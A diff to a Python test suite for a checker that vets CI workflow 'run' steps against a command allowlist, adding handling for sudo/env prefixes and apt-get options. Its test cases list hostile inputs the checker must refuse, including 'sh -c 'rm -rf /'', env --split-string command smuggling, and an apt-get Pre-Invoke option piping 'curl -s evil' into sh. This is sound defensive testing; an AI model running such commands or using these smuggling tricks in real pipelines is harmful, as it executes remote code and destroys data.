@@ -29,8 +29,15 @@ MAX_LINE = 260
 ALLOWED = frozenset({
     "eectl", "ee-cp", "ee-agent", "pytest", "pip", "python", "python3", "ruff", "mypy",
     "actionlint", "docker", "curl", "jq", "base64", "openssl", "grep", "cmp", "printf",
-    "echo", "cat", "tail", "mkdir", "cp", "rm", "kill", "gh", "true",
+    "echo", "cat", "tail", "mkdir", "cp", "rm", "kill", "gh", "true", "apt-get", "chown",
 })
+# Words that run the command after them (as root, with a set environment): the program
+# is the first word after them that is not a NAME=VALUE assignment, so an option after
+# them (`env -S "sh -c …"`, `sudo -u`) is taken for the program and refused; apt-get may
+# not be given options that run commands (`-o APT::Update::Pre-Invoke::=…`, a config).
+PREFIXES = frozenset({"sudo", "env"})
+ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
+APT_OPTIONS = re.compile(r"^(-o|--option|-c|--config-file)(=|$)|^-o.")
 SCRIPT = re.compile(
     r"(^|[\s=<>(|&;])("
     r"\S+\.(sh|bash|py|pl|rb|ps1)\b"           # a script file by extension
@@ -75,7 +82,10 @@ def run_problems(run: str) -> list[str]:
             problems.append(f"does not parse ({exc}): {line.strip()}")
             continue
         for words in commands:
-            program = next((w for w in words if "=" not in w.split("/")[0]), "")
+            program = next((w for w in words
+                            if not ASSIGNMENT.match(w) and w not in PREFIXES), "")
+            if program == "apt-get" and any(APT_OPTIONS.match(w) for w in words):
+                problems.append(f"apt-get with options that run commands: {line.strip()}")
             if program not in ALLOWED:
                 problems.append(f"runs {program!r}, not a typed command or glue: {line.strip()}")
             elif program.startswith("python") and words[words.index(program) + 1:][:1] != ["-m"]:
@@ -127,7 +137,8 @@ def test_the_shipped_pipeline_is_all_there() -> None:
                        "eectl tenant undeploy"):
             assert needed in text, (job, needed)
     assert "--dev" not in " ".join(s.get("run", "") for s in e2e["jobs"]["tdx"]["steps"])
-    for needed in ("eectl release build", "eectl release sign", "eectl release verify"):
+    for needed in ("eectl release build", "eectl release sign", "eectl release verify",
+                   "eectl image build", "eectl trust measure", "--image image"):
         assert needed in runs["release.yml"]
 
 
@@ -141,6 +152,15 @@ def test_the_shipped_pipeline_is_all_there() -> None:
     ("eectl deploy run x --version 1 && sh -c 'rm -rf /'", "runs 'sh'"),
     ("echo a\necho b\necho c\necho d", "4 lines"),
     ("eectl " + "x " * 200, "line of "),
+    ("sudo sh -c 'id'", "runs 'sh'"),
+    ('sudo env "PATH=$PATH" bash -c x', "runs 'bash'"),
+    ('env --split-string="sh -c id" eectl version', "runs '--split-string"),
+    ('sudo env --split-string="bash -c whoami" true', "runs '--split-string"),
+    ("sudo -u nobody eectl x", "runs '-u'"),
+    ("sudo apt-get -o 'APT::Update::Pre-Invoke::=curl -s evil | sh' update",
+     "apt-get with options that run commands"),
+    ("apt-get -oAPT::X=y update", "apt-get with options that run commands"),
+    ("apt-get --config-file=/tmp/x install y", "apt-get with options that run commands"),
 ])
 def test_the_checker_refuses_scripts_and_long_blocks(run: str, problem: str) -> None:
     assert any(problem in p for p in run_problems(run)), run_problems(run)
@@ -151,7 +171,8 @@ def test_the_checker_accepts_glue() -> None:
                 "ee-cp --dev --data-dir .ee-ci/cp >.ee-ci/cp.log 2>&1 &",
                 'eectl deploy wait-attested "$(cat .ee-ci/deployment)" --timeout 300',
                 "printf 'agents\\ntree\\n' | eectl console --token-file x",
-                "python -m build --sdist"):
+                "python -m build --sdist",
+                'sudo env "PATH=$PATH" eectl image build --out image'):
         assert run_problems(run) == [], run
 
 
